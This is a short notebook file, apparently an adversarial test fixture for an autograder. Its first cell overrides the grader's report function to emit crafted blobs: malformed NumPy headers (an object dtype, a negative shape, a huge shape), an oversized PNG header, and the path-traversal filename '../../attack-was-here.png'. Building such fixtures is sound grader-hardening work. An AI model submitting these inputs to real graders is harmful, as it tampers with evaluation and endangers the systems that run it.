# %%
# question: q1
from IPython.display import publish_display_data
MIME = 'application/vnd.grader.observation+json'
import grader.probe.report as r, base64, hashlib, struct
def npy(h):
    h = h.encode().ljust(117) + b'\n'; return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(h)) + h
bad = [npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,)}"), npy("{'descr': '<f4', 'fortran_order': False, 'shape': (-1, 4)}"), npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1000000, 1000000)}")]
blobs = {hashlib.sha256(b).hexdigest() + '.npy': base64.b64encode(b).decode() for b in bad}
png = b'\x89PNG\r\n\x1a\n' + struct.pack('>I', 13) + b'IHDR' + struct.pack('>II', 2**31 - 1, 2**31 - 1) + bytes(50)
blobs[hashlib.sha256(png).hexdigest() + '.png'] = base64.b64encode(png).decode()
blobs['../../attack-was-here.png'] = base64.b64encode(png).decode()
r.observe = lambda plan: publish_display_data({MIME: {'observation': {'question': __import__('json').loads(plan)['question'], 'values': [{'name': 'v', 'type': 'int', 'values': [1]}]}, 'blobs': blobs}})

# %%
# question: q2
total = sum(range(10))
